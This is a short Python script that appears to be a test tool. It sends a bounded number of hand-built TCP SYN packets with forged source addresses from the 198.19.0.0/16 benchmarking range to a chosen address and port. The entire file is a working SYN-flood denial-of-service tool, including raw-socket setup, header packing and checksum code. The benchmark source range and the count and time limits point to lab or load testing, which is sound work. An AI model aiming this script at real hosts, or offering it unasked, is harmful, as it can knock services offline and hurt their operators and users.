import socket, struct, sys, time
# synflood.py VIP PORT COUNT SECONDS: COUNT SYNs from distinct sources in 198.19.0.0/16+, bounded by SECONDS
vip, port, count, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
s.setsockopt(socket.SOL_IP, socket.IP_HDRINCL, 1)
dst = socket.inet_aton(vip)
def csum(b):
    if len(b) % 2: b += b'\0'
    t = sum(struct.unpack('!%dH' % (len(b) // 2), b))
    while t >> 16: t = (t & 0xffff) + (t >> 16)
    return ~t & 0xffff
end = time.monotonic() + seconds
sent = 0
base = (198 << 24) | (19 << 16)
for i in range(count):
    if (i & 1023) == 0 and time.monotonic() > end: break
    src = struct.pack('!I', base + (i % 65536))  # 198.19.0.0/16, inside 198.18.0.0/15
    sport = 1024 + (i // 65536) % 60000
    tcp = struct.pack('!HHIIBBHHH', sport, port, i, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = src + dst + struct.pack('!BBH', 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack('!H', csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 40, i & 0xffff, 0, 64, 6, 0, src, dst)
    s.sendto(ip + tcp, (vip, 0))
    sent += 1
print(sent)
